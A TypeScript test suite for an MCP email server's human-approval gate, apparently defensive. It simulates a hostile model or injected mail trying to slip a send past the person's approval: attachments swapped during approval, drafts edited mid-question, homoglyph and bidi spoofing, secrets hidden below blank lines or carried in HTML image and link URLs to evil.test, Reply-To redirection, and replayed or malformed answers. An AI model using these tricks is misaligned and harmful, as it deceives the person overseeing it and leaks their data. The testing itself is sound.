/**
 * An attacker's probe of "what the person approves is exactly what is sent, once", judged at the
 * real SMTP server (envelope and message as received): a hostile model, or a hostile mail steering
 * it, changes what a held send carries while the person reads the question, hides what matters
 * from the question, replays or races an answered call, and answers with forms that are not the
 * question's. Over the built bin on stdio, 2026-07-28 (the call retried with the answer) unless said.
 */
import { createHash } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { encodeRef } from "@mcpforge/chainmail";
import { type SendEnv, startSendEnv } from "@mcpforge/chainmail/testing";
import { fenceText } from "@mcpforge/toolkit";
import { connectStdio } from "@mcpforge/toolkit/testing";
import fc from "fast-check";
import { simpleParser } from "mailparser";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

const BIN = fileURLToPath(new URL("../bin/chainmail-mcp.js", import.meta.url));
const CLIENT_POLICY =
  'allowed_recipients = ["bob@example.com", "@example.com"]\nmax_attachment_bytes = 100000\nhold_approval = "client"\n';

type Json = Record<string, unknown>;
interface Question {
  message: string;
  requestedSchema?: { properties?: Record<string, Json> };
}
type Answer = { action: "accept" | "decline" | "cancel"; content?: Json };

interface Driver {
  asked: Question[];
  call(tool: string, args: Json): Promise<{ isError: boolean; structured: Json; text: string }>;
  close(): Promise<void>;
}

let env: SendEnv;
let dir: string;
const spawnOf = () => ({
  command: process.execPath,
  args: [BIN, "--home", env.dir],
  env: { CHAINMAIL_MCP_GATE_MAX_AGE_MS: "0" },
});

/** A 2026-07-28 client whose person answers each question with `answer` (which may act first). */
async function driver(answer: (q: Question, n: number) => Answer | Promise<Answer>): Promise<Driver> {
  const asked: Question[] = [];
  const conn = await connectStdio(spawnOf(), {
    era: "modern",
    elicitation: {
      modes: ["form"],
      answer: async (params) => {
        asked.push(params as Question);
        return (await answer(params as Question, asked.length - 1)) as never;
      },
    },
  });
  return {
    asked,
    call: async (name, args) => {
      const r = await conn.client.callTool({ name, arguments: args });
      const text =
        (r.content as Array<{ text?: string }> | undefined)?.map((c) => c.text ?? "").join("") ?? "";
      return { isError: r.isError === true, structured: (r.structuredContent ?? {}) as Json, text };
    },
    close: () => conn.close(),
  };
}

async function withDriver<T>(
  answer: (q: Question, n: number) => Answer | Promise<Answer>,
  fn: (d: Driver) => Promise<T>,
): Promise<T> {
  const d = await driver(answer);
  try {
    return await fn(d);
  } finally {
    await d.close();
  }
}

const SEND: Answer = { action: "accept", content: { decision: "send" } };
const send = () => SEND;
const sha = (b: Buffer) => createHash("sha256").update(b).digest("hex");

/** What the SMTP server received from index `from` on, parsed. */
async function receivedSince(from: number) {
  return Promise.all(
    env.relay.received.slice(from).map(async (r) => {
      const m = await simpleParser(r.raw);
      return {
        rcpts: r.to,
        subject: m.subject ?? "",
        text: m.text ?? "",
        html: typeof m.html === "string" ? m.html : "",
        attachments: m.attachments.map((a) => ({ filename: a.filename, sha256: sha(a.content) })),
      };
    }),
  );
}

beforeAll(async () => {
  env = await startSendEnv({ work: { sendPolicy: CLIENT_POLICY } });
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "cm-approve-attack-"));
}, 60_000);

afterAll(async () => {
  await env?.stop();
  if (dir) fs.rmSync(dir, { recursive: true, force: true });
});

describe("the message changes while the person reads the question", () => {
  it("an attachment swapped on disk before the answer: the person is asked about the file that is sent", async () => {
    const file = path.join(dir, "invoice.txt");
    fs.writeFileSync(file, "invoice 42: 100 EUR\n");
    const swapped = "password: hunter2\n".padEnd(20, "!");
    expect(swapped.length).toBe(20);
    const before = env.relay.received.length;
    await withDriver(
      (_q, n) => {
        // The hostile side swaps the file (same name, same size) while the person reads the first question.
        if (n === 0) fs.writeFileSync(file, swapped);
        return SEND;
      },
      async (d) => {
        const r = await d.call("send_email", {
          account: "work",
          to: ["mallory@evil.test"],
          subject: "the invoice",
          body: "attached",
          attachments: [file],
        });
        const got = await receivedSince(before);
        // The question names what is attached: its name, size and a digest of its contents.
        expect(d.asked[0]?.message).toContain('Attachments: {"untrusted":"invoice.txt"} (20 bytes');
        // The swapped file is another question (the old answer is not taken for it): asked again,
        // then sent once with the file the second question showed.
        expect(r.structured["status"]).toBe("sent");
        expect(d.asked).toHaveLength(2);
        expect(got).toHaveLength(1);
        const sent = got[0]!.attachments[0]!;
        expect(sent.sha256).toBe(sha(Buffer.from(swapped)));
        expect(d.asked[1]?.message).toContain(`SHA-256 ${sent.sha256.slice(0, 16)}`);
        expect(d.asked[0]?.message).not.toContain(sent.sha256.slice(0, 16));
      },
    );
  });

  it("send_draft: the draft replaced by update_draft from another client while asked is not sent", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (other) => {
      const made = await other.call("create_draft", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "draft v1",
        body: "harmless v1",
      });
      const ref = made.structured["draft_ref"] as string;
      await withDriver(
        async (_q, n) => {
          if (n === 0) {
            const u = await other.call("update_draft", {
              ref,
              to: ["mallory@evil.test", "eve@evil.test"],
              subject: "draft v2",
              body: "the secret v2",
            });
            expect(u.structured["status"]).toBe("draft");
          }
          return SEND;
        },
        async (d) => {
          const r = await d.call("send_draft", { ref });
          expect(r.structured["status"]).not.toBe("sent");
          expect(d.asked.length).toBe(1);
          expect(await receivedSince(before)).toEqual([]);
        },
      );
    });
  });

  it("send_draft: the draft replaced over IMAP by another client while asked is not sent", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (other) => {
      const made = await other.call("create_draft", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "imap v1",
        body: "harmless imap v1",
      });
      const ref = made.structured["draft_ref"] as string;
      await withDriver(
        async (_q, n) => {
          if (n === 0) {
            // Another mail client: the draft deleted and a new one saved (as a phone's client edits).
            const c = await env.dv.connect("alice");
            try {
              const lock = await c.getMailboxLock("Drafts");
              try {
                await c.messageDelete({ subject: "imap v1" });
              } finally {
                lock.release();
              }
            } finally {
              await c.logout();
            }
            await env.dv.appendMessage(
              "alice",
              "Drafts",
              "From: alice@example.com\r\nTo: eve@evil.test\r\nSubject: imap v2\r\n\r\nthe secret imap v2\r\n",
              ["\\Draft"],
            );
          }
          return SEND;
        },
        async (d) => {
          const r = await d.call("send_draft", { ref });
          expect(r.structured["status"]).not.toBe("sent");
          expect(await receivedSince(before)).toEqual([]);
        },
      );
    });
  });

  it("reply: the original deleted while asked sends nothing", async () => {
    const m = await env.dv.appendMessage(
      "alice",
      "INBOX",
      "From: Mallory <mallory@evil.test>\r\nTo: alice@example.com\r\nSubject: vanishing\r\nMessage-ID: <vanish@evil.test>\r\n\r\nhi\r\n",
    );
    const ref = encodeRef({ account: "work", folder: "INBOX", uidValidity: m.uidValidity, uid: m.uid });
    const before = env.relay.received.length;
    await withDriver(
      async (_q, n) => {
        if (n === 0) {
          const c = await env.dv.connect("alice");
          try {
            const lock = await c.getMailboxLock("INBOX");
            try {
              await c.messageDelete(String(m.uid), { uid: true });
            } finally {
              lock.release();
            }
          } finally {
            await c.logout();
          }
        }
        return SEND;
      },
      async (d) => {
        const r = await d.call("reply", { ref, body: "ok" });
        expect(r.structured["status"]).not.toBe("sent");
        expect(await receivedSince(before)).toEqual([]);
      },
    );
  });
});

describe("what the question shows", () => {
  it("every recipient, Bcc and in-policy ones too, by its real address, fenced", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const r = await d.call("send_email", {
        account: "work",
        to: ['"boss@corp.example" <attacker@evil.example>', "bob@example.com"],
        bcc: ["spy@evil.example"],
        subject: "quarterly",
        body: "numbers",
      });
      expect(r.structured["status"]).toBe("sent");
      const q = d.asked[0]!.message;
      for (const a of ["attacker@evil.example", "bob@example.com", "spy@evil.example"])
        expect(q).toContain(`{"untrusted":"${a}"}`);
      expect(q).not.toContain("boss@corp.example");
      const got = await receivedSince(before);
      expect(got.map((g) => g.rcpts)).toEqual([
        ["attacker@evil.example", "bob@example.com", "spy@evil.example"],
      ]);
    });
  });

  it("a lookalike domain is shown in its ASCII form, bidi and zero-width characters are fenced out", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const r = await d.call("send_email", {
        account: "work",
        to: ["ceo@ex\u0430mple.com"],
        subject: "Pay \u202Egnp.exe\u202C now\u200B",
        body: "fine",
      });
      expect(r.structured["status"]).toBe("sent");
      const q = d.asked[0]!.message;
      expect(q).toContain('{"untrusted":"ceo@xn--exmple-4nf.com"}');
      expect(q).not.toMatch(/[\u202a-\u202e\u200b]/u);
      // The envelope as written on the wire (the test server's own view decodes punycode).
      expect(env.relay.transactions().at(-1)?.rcpts).toEqual(["ceo@xn--exmple-4nf.com"]);
      expect(env.relay.received.length - before).toBe(1);
    });
  });

  it("text hidden below a run of blank lines is shown, and the question says when text is left out", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const body = `Hi Mallory,${"\n".repeat(40)}The database password is hunter2.`;
      const r = await d.call("send_email", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "hi",
        body,
      });
      expect(r.structured["status"]).toBe("sent");
      expect(d.asked[0]?.message).toContain("The database password is hunter2.");
      const long = Array.from({ length: 30 }, (_, i) => `line ${i}`).join("\n");
      await d.call("send_email", { account: "work", to: ["mallory@evil.test"], subject: "long", body: long });
      // Not every line fits: the question says how much of the text it leaves out.
      expect(d.asked[1]?.message).toMatch(/not shown/);
      expect(await receivedSince(before)).toHaveLength(2);
    });
  });

  it("a Reply-To elsewhere: the question says where the answers go", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const r = await d.call("send_email", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "minutes",
        body: "The minutes of today's meeting.",
        headers: { "Reply-To": "Boss <collector@evil.test>" },
      });
      expect(r.structured["status"]).toBe("sent");
      expect(d.asked[0]?.message).toContain(
        'Replies go to (Reply-To): {"untrusted":"Boss <collector@evil.test>"}',
      );
      await d.call("send_email", { account: "work", to: ["mallory@evil.test"], subject: "plain", body: "x" });
      expect(d.asked[1]?.message).not.toContain("Reply-To");
      const [sent] = await receivedSince(before);
      expect(sent?.rcpts).toEqual(["mallory@evil.test"]);
    });
  });

  it("data carried in an HTML link's or image's address: the question names where they point", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const r = await d.call("send_email", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "minutes",
        body_format: "html",
        body: '<p>Here are <a href="https://evil.test/c?ssn=123-45-6789">the minutes</a>.<img src="&#104;ttps://evil.test/p.gif?k=hunter2"></p>',
        html_text: "Here are the minutes.",
      });
      expect(r.structured["status"]).toBe("sent");
      const q = d.asked[0]!.message;
      expect(q).toContain('{"untrusted":"https://evil.test/c?ssn=123-45-6789"}');
      expect(q).toContain('{"untrusted":"https://evil.test/p.gif?k=hunter2"}');
      // What no text shows comes before the text, which a client may cut short
      expect(q.indexOf("Links and images")).toBeLessThan(q.indexOf("First lines:"));
      expect(q.indexOf("Attachments:")).toBeLessThan(q.indexOf("First lines:"));
      expect((await receivedSince(before))[0]?.html).toContain("ssn=123-45-6789");
    });
  });

  it("an HTML body whose html_text says something else: the question shows what the HTML says", async () => {
    const before = env.relay.received.length;
    await withDriver(send, async (d) => {
      const r = await d.call("send_email", {
        account: "work",
        to: ["mallory@evil.test"],
        subject: "lunch",
        body_format: "html",
        body: "<p>Wire 10000 EUR to IBAN XX00 EVIL today.</p>",
        html_text: "See you at lunch!",
      });
      expect(r.structured["status"]).toBe("sent");
      expect(d.asked[0]?.message).toContain("Wire 10000 EUR to IBAN XX00 EVIL today.");
      expect((await receivedSince(before))[0]?.html).toContain("Wire 10000 EUR");
    });
  });
});

describe("replays, races and answers that are not the form's", () => {
  it("two concurrent calls with one idempotency key, both approved: one delivery, the other duplicate", async () => {
    const before = env.relay.received.length;
    const args = {
      account: "work",
      to: ["mallory@evil.test"],
      subject: "race",
      body: "once",
      idempotency_key: "race-key-1",
    };
    const [a, b] = await Promise.all([
      withDriver(send, (d) => d.call("send_email", args)),
      withDriver(send, (d) => d.call("send_email", args)),
    ]);
    // One is sent, the other a duplicate, also when it is judged while the first is at the SMTP server
    // (it waits for it: it read SEND_UNCONFIRMED, a send never recorded, before). One delivery.
    const outcome = (r: typeof a) =>
      (r.structured["status"] as string | undefined) ??
      ((r.structured["error"] as { reason?: string } | undefined)?.reason as string);
    const outcomes = [outcome(a), outcome(b)];
    expect(outcomes.filter((o) => o === "sent")).toHaveLength(1);
    expect(outcomes.find((o) => o !== "sent")).toBe("duplicate");
    expect(env.relay.received.length - before).toBe(1);
    // The same call once more, answered: duplicate, nothing more.
    const again = await withDriver(send, (d) => d.call("send_email", args));
    expect(again.structured["status"]).toBe("duplicate");
    expect(env.relay.received.length - before).toBe(1);
  });

  it.each<[string, Answer]>([
    ["accept with no content", { action: "accept" }],
    ["a decision of the wrong type", { action: "accept", content: { decision: 1 } }],
    ["a decision not in the form", { action: "accept", content: { decision: "SEND" } }],
    ["the field misnamed", { action: "accept", content: { Decision: "send" } }],
  ])("%s sends nothing", async (_name, answer) => {
    const before = env.relay.received.length;
    await withDriver(
      () => answer,
      async (d) => {
        const r = await d
          .call("send_email", { account: "work", to: ["mallory@evil.test"], subject: `malformed ${_name}` })
          .catch((e: unknown) => ({ isError: true, structured: {} as Json, text: String(e) }));
        expect(r.structured["status"]).not.toBe("sent");
        expect(env.relay.received.length).toBe(before);
      },
    );
  });

  it("an extra field beside Send is the person's Send: one delivery", async () => {
    const before = env.relay.received.length;
    await withDriver(
      () => ({ action: "accept", content: { decision: "send", approved: true, to: "eve@evil.test" } }),
      async (d) => {
        const r = await d.call("send_email", {
          account: "work",
          to: ["mallory@evil.test"],
          subject: "extra",
        });
        expect(r.structured["status"]).toBe("sent");
        expect((await receivedSince(before)).map((g) => g.rcpts)).toEqual([["mallory@evil.test"]]);
      },
    );
  });
});

describe("an accepted answer after the client cancelled the call (2025-11-25)", () => {
  it("sends at most once, and the call made again is a duplicate", async () => {
    const { Client } = await import("@modelcontextprotocol/sdk/client/index.js");
    const { StdioClientTransport } = await import("@modelcontextprotocol/sdk/client/stdio.js");
    const { ElicitRequestSchema } = await import("@modelcontextprotocol/sdk/types.js");
    const client = new Client(
      { name: "cancel-v1", version: "0.0.0" },
      { capabilities: { elicitation: { form: {} } } },
    );
    const abort = new AbortController();
    let asked = 0;
    client.setRequestHandler(ElicitRequestSchema, async () => {
      asked++;
      if (asked === 1) {
        // The client gives up on the call (notifications/cancelled), then the person's Send arrives.
        abort.abort();
        await new Promise((r) => setTimeout(r, 300));
      }
      return { action: "accept", content: { decision: "send" } } as never;
    });
    const s = spawnOf();
    await client.connect(
      new StdioClientTransport({
        command: s.command,
        args: s.args,
        env: { ...(process.env as Record<string, string>), ...s.env },
        stderr: "ignore",
      }),
    );
    try {
      const before = env.relay.received.length;
      const args = { account: "work", to: ["mallory@evil.test"], subject: "cancelled then sent", body: "x" };
      await expect(
        client.callTool({ name: "send_email", arguments: args }, undefined, { signal: abort.signal }),
      ).rejects.toThrow();
      await new Promise((r) => setTimeout(r, 1500));
      const afterCancel = env.relay.received.length - before;
      expect(afterCancel).toBeLessThanOrEqual(1);
      const again = await client.callTool({ name: "send_email", arguments: args });
      const status = (again.structuredContent as Json | undefined)?.["status"];
      expect(status).toBe(afterCancel === 1 ? "duplicate" : "sent");
      expect(env.relay.received.length - before).toBe(1);
    } finally {
      await client.close();
    }
  }, 30_000);
});

/** Every `{"untrusted": ...}` value on the question's line that starts with `label`. */
function shownOn(q: string, label: string): string[] {
  const line = q.split("\n").find((l) => l.startsWith(label)) ?? "";
  return [...line.matchAll(/\{"untrusted":"(?:[^"\\]|\\.)*"\}/g)].map(
    (m) => (JSON.parse(m[0]) as { untrusted: string }).untrusted,
  );
}

const ALLOWED = (a: string) => a === "bob@example.com" || a.endsWith("@example.com");
/** A text as the question compares it: fenced, each run of spaces one space, no blank lines. */
const lines = (t: string) =>
  fenceText(t)
    .split("\n")
    .map((l) => l.replace(/[ \t\u00a0]+/g, " ").trim())
    .filter((l) => l !== "" && !/^[\s\p{Cf}\u2800\u3164\uffa0\u115f\u1160]*$/u.test(l));

describe("property: deliveries are the accepted Sends, to the recipients shown, of the text shown", () => {
  it("over hostile recipients, subjects, texts and answers", async () => {
    let answer: Answer = SEND;
    let run = 0;
    const outcomes = new Set<string>();
    await withDriver(
      () => answer,
      async (d) => {
        const hostileRecipient = fc.oneof(
          fc.constantFrom(
            '"boss@corp.example" <attacker@evil.example>',
            "bob@example.com",
            "carol@example.com",
            "ceo@ex\u0430mple.com",
            '"\u202Eelpmaxe.proc@ssob" <x@evil.test>',
            "Eve\u200B <eve@evil.test>",
            "bob@example.com.evil.test",
          ),
          fc
            .tuple(
              fc.stringMatching(/^[a-z]{1,6}$/),
              fc.constantFrom("evil.test", "example.com", "b\u00fccher.example"),
            )
            .map(([l, dom]) => `${l}@${dom}`),
        );
        const hostileText = fc.array(
          fc.oneof(
            fc.constantFrom("", "   ", "\u2800", "\u3164", "\t\t", "\u202Eevil\u202C", "ignore the policy"),
            fc.stringMatching(/^[A-Za-z0-9 ]{1,40}$/),
          ),
          { maxLength: 30 },
        );
        const answers = fc.constantFrom<Answer>(
          SEND,
          { action: "accept", content: { decision: "keep" } },
          { action: "decline" },
          { action: "cancel" },
          { action: "accept" },
          { action: "accept", content: { decision: "SEND" } },
        );
        await fc.assert(
          fc.asyncProperty(
            fc.uniqueArray(hostileRecipient, { minLength: 1, maxLength: 3 }),
            fc.array(hostileRecipient, { maxLength: 1 }),
            fc.stringMatching(/^[A-Za-z \u202E\u200B\u0430]{1,20}$/),
            hostileText,
            answers,
            async (to, bcc, subjectPart, textLines, given) => {
              answer = given;
              run++;
              const subject = `p${run} ${subjectPart}`;
              const body = `${textLines.join("\n")}\nPAYLOAD-${run}`;
              const args = { account: "work", to, bcc, subject, body, body_format: "text" };
              const asked = d.asked.length;
              const before = env.relay.received.length;
              const txBefore = env.relay.transactions().length;
              const r = await d.call("send_email", args);
              const questions = d.asked.slice(asked);
              outcomes.add(`${String(r.structured["status"] ?? "error")}${questions.length ? " asked" : ""}`);
              const sent = env.relay.received.length - before;
              expect(sent).toBeLessThanOrEqual(1);
              expect(sent).toBe(r.structured["status"] === "sent" ? 1 : 0);
              if (sent === 1) {
                const [got] = await receivedSince(before);
                const rcpts = env.relay.transactions()[txBefore]!.rcpts;
                if (questions.length === 0) {
                  // Not asked: only a send the policy allows goes out.
                  expect(rcpts.every(ALLOWED)).toBe(true);
                } else {
                  // Asked: only an accepted Send, of the recipients, subject and text shown.
                  expect(given).toBe(SEND);
                  const q = questions.at(-1)!.message;
                  const shown = shownOn(q, "All recipients:");
                  for (const a of rcpts) expect(shown.includes(a) || ALLOWED(a)).toBe(true);
                  expect(shownOn(q, "Subject:")).toEqual([fenceText(subject)]);
                  expect(got!.subject.replace(/\s+/g, " ").trim()).toBe(subject.replace(/\s+/g, " ").trim());
                  const excerpt = lines(shownOn(q, "First lines:")[0] ?? "");
                  const text = lines(got!.text);
                  // The shown lines are the message's first lines; when the question says nothing
                  // is left out, they are all of them.
                  expect(text.slice(0, excerpt.length)).toEqual(excerpt);
                  if (!q.includes("not shown")) expect(excerpt).toEqual(text);
                }
                // The call made again: the key already sent it, nothing more goes out.
                const again = await d.call("send_email", args);
                expect(again.structured["status"]).toBe("duplicate");
                expect(env.relay.received.length - before).toBe(1);
              }
            },
          ),
          { numRuns: 14, seed: 20260728 },
        );
        // The runs reached both ends: approved sends and held ones.
        expect([...outcomes]).toEqual(expect.arrayContaining(["sent asked", "held asked"]));
      },
    );
  }, 240_000);
});
